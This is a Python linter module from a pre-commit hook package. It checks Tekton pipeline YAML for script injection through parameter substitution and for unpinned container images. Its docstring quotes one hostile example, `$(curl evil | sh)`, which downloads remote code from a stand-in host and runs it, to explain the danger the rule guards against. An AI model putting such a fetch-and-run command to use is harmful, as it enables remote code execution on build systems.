"""Rules on what steps run: the code and the image."""

from __future__ import annotations

import re
from typing import Any, Iterator

from precommit_hooks.core.findings import WARNING
from precommit_hooks.core.rules import rule
from precommit_hooks.hooks.check_tekton.loader import HOOK, Context, Doc
from precommit_hooks.hooks.check_tekton.steps import (
    INJECTED_RE,
    Code,
    code_of,
    steps_of,
    specs_with_steps,
)
from precommit_hooks.hooks.check_tekton.tree import match_pos, pos


@rule(HOOK, "script-injection")
def script_injection(ctx: Context, doc: Doc) -> None:
    """`$(params.x)`, `$(tt.params.x)`, `$(body...)` or `$(extensions...)`
    inside a step's `script:` or a shell's `-c` argument.

    Tekton and Triggers paste the value into the code before it runs, so a
    branch name or a comment such as `$(curl evil | sh)` runs as code. Pass
    the value through `env` (`env: [{name: REV, value: $(params.rev)}]`, then
    `"$REV"`), a file, or `args` (`"$1"`). Values in `env`, `args`,
    `workingDir` or a plain `command` are data, not code.
    """
    if not doc.tekton:
        return
    steps = [
        step for spec in specs_with_steps(doc.data) for step in steps_of(spec, True)
    ]
    if doc.kind == "StepAction" and isinstance(doc.data.get("spec"), dict):
        steps.append(doc.data["spec"])  # a StepAction's spec is one step
    for step in steps:
        for code in code_of(step):
            if "$(" not in code.text:
                continue
            for match in INJECTED_RE.finditer(code.text):
                _report_injection(ctx, doc, code, match)


def _report_injection(ctx: Context, doc: Doc, code: Code, match: re.Match) -> None:
    written = match.group(0)
    what = "script" if code.key == "script" else f"{code.interpreter} -c argument"
    step = code.step.get("name")
    owner = f"step {step!r}" if isinstance(step, str) else "a step"
    at = match_pos(doc, pos(code.container, code.key), code.text, match.start())
    ctx.report.add(
        doc,
        at,
        "script-injection",
        f"{written} is pasted into the {what} of {owner} of {doc.label}, so a "
        "crafted value runs as code; pass it through env (env: [{name: VALUE, "
        f"value: '{written}'}}] and use \"$VALUE\"), a file or args",
    )


def _images(node: Any) -> Iterator[tuple[str, Any]]:
    pending = [node]
    while pending:
        current = pending.pop()
        if isinstance(current, dict):
            for key, value in current.items():
                if key == "image" and isinstance(value, str):
                    yield value, pos(current, key)
                else:
                    pending.append(value)
        elif isinstance(current, list):
            pending.extend(current)


@rule(HOOK, "image-latest", WARNING)
def image_latest(ctx: Context, doc: Doc) -> None:
    """An image with `:latest` or no tag (as tekton-lint): the run changes when
    the image does; pin a version tag or a digest."""
    if not doc.valid:
        return
    for image, at in sorted(_images(doc.data), key=lambda found: found[1] or (0, 0)):
        if "$(" in image or "@" in image:
            continue
        last = image.rsplit("/", 1)[-1]
        tag = last.split(":", 1)[1] if ":" in last else None
        if tag is None or tag == "latest":
            what = "':latest'" if tag else "no tag (so ':latest')"
            ctx.report.add(
                doc,
                at,
                "image-latest",
                f"image {image!r} has {what}: the run changes when the image "
                "does; pin a version tag or a digest",
                WARNING,
            )
